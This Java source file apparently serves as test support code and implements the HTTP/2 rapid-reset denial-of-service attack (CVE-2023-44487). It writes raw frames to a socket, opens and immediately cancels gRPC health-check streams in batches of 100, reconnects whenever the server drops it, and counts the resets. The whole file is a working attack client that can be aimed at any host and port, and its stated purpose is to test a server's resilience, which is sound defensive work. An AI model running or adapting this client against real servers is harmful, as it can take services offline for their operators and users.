package com.placebrain.devices.it.support;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The HTTP/2 rapid-reset attack (CVE-2023-44487) as an attacker makes it: raw frames on a socket,
 * each stream opened (HEADERS of a Health/Check call) and reset (RST_STREAM CANCEL) at once, in
 * batches, as fast as the socket takes them; a new connection whenever the server closes one.
 * Nothing is read but what the protocol requires (SETTINGS are acknowledged).
 *
 * <p>Run as a process of its own ({@link #start}; it prints the streams it reset), so that its own
 * work is not counted against the server in the test JVM.
 */
public final class RapidResetClient {

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 0x1;
    private static final int RST_STREAM = 0x3;
    private static final int SETTINGS = 0x4;
    private static final int END_HEADERS = 0x4;
    private static final int ACK = 0x1;
    private static final int CANCEL = 0x8;
    private static final int BATCH = 100;

    private final String host;
    private final int port;
    private final AtomicLong resets = new AtomicLong();
    private final AtomicLong connections = new AtomicLong();

    private RapidResetClient(String host, int port) {
        this.host = host;
        this.port = port;
    }

    /**
     * Attacks for {@code seconds} in a new JVM at the lowest CPU priority (nice 19), with this JVM's
     * class path; its standard output is the report, see {@link #resetsIn}.
     */
    public static Process start(String host, int port, int seconds) throws IOException {
        String java = ProcessHandle.current().info().command().orElse("java");
        return new ProcessBuilder("nice", "-n", "19", java, "-cp", System.getProperty("java.class.path"),
                RapidResetClient.class.getName(), host, Integer.toString(port), Integer.toString(seconds))
                .redirectError(ProcessBuilder.Redirect.INHERIT).start();
    }

    /** The streams reset, from a report: "resets=N connections=M". */
    public static long resetsIn(String report) {
        Matcher found = Pattern.compile("resets=(\\d+)").matcher(report);
        return found.find() ? Long.parseLong(found.group(1)) : 0;
    }

    public static void main(String[] args) throws Exception {
        RapidResetClient client = new RapidResetClient(args[0], Integer.parseInt(args[1]));
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(Long.parseLong(args[2]));
        while (System.nanoTime() < end) {
            client.attackOneConnection(end);
        }
        System.out.println("resets=" + client.resets.get() + " connections=" + client.connections.get());
    }

    /** Until the server closes the connection or the time is up. */
    private void attackOneConnection(long end) {
        try (Socket socket = new Socket(host, port)) {
            connections.incrementAndGet();
            socket.setTcpNoDelay(true);
            OutputStream out = socket.getOutputStream();
            synchronized (out) {
                out.write(PREFACE);
                out.write(frame(SETTINGS, 0, 0, new byte[0]));
                out.flush();
            }
            Thread reader = Thread.ofPlatform().daemon().start(() -> acknowledgeSettings(socket, out));
            byte[] headerBlock = headerBlock(host + ":" + port);
            int stream = 1;
            while (System.nanoTime() < end && !socket.isClosed()) {
                ByteArrayOutputStream batch = new ByteArrayOutputStream(BATCH * 80);
                for (int i = 0; i < BATCH; i++, stream += 2) {
                    batch.writeBytes(frame(HEADERS, END_HEADERS, stream, headerBlock));
                    batch.writeBytes(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL}));
                }
                synchronized (out) {
                    out.write(batch.toByteArray());
                    out.flush();
                }
                resets.addAndGet(BATCH);
            }
            reader.interrupt();
        } catch (IOException closedByServer) {
            // GOAWAY or reset: the next connection goes on.
        }
    }

    private static void acknowledgeSettings(Socket socket, OutputStream out) {
        try {
            DataInputStream in = new DataInputStream(socket.getInputStream());
            byte[] header = new byte[9];
            while (true) {
                in.readFully(header);
                int length = (header[0] & 0xff) << 16 | (header[1] & 0xff) << 8 | header[2] & 0xff;
                in.readFully(new byte[length]);
                if (header[3] == SETTINGS && (header[4] & ACK) == 0) {
                    synchronized (out) {
                        out.write(frame(SETTINGS, ACK, 0, new byte[0]));
                        out.flush();
                    }
                }
            }
        } catch (IOException gone) {
            try {
                socket.close();
            } catch (IOException ignored) {
                // closing
            }
        }
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        byte[] frame = new byte[9 + payload.length];
        frame[0] = (byte) (payload.length >>> 16);
        frame[1] = (byte) (payload.length >>> 8);
        frame[2] = (byte) payload.length;
        frame[3] = (byte) type;
        frame[4] = (byte) flags;
        frame[5] = (byte) (stream >>> 24 & 0x7f);
        frame[6] = (byte) (stream >>> 16);
        frame[7] = (byte) (stream >>> 8);
        frame[8] = (byte) stream;
        System.arraycopy(payload, 0, frame, 9, payload.length);
        return frame;
    }

    /** HPACK literals without indexing, no Huffman: every name and value below 127 bytes. */
    private static byte[] headerBlock(String authority) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        String[][] headers = {{":method", "POST"}, {":scheme", "http"}, {":path", "/grpc.health.v1.Health/Check"},
            {":authority", authority}, {"content-type", "application/grpc"}, {"te", "trailers"}};
        for (String[] header : headers) {
            block.write(0);
            for (String text : header) {
                byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
                block.write(bytes.length);
                block.writeBytes(bytes);
            }
        }
        return block.toByteArray();
    }
}
